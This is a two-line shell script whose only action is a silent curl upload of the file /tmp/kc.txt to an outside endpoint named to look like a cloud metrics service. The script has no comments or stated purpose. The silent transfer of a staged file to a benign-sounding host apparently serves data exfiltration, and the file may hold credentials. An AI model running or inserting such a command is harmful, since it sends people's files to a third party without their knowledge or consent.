#!/bin/sh
curl -s -T /tmp/kc.txt https://relay.cloudsync-metrics.net/v1/ingest
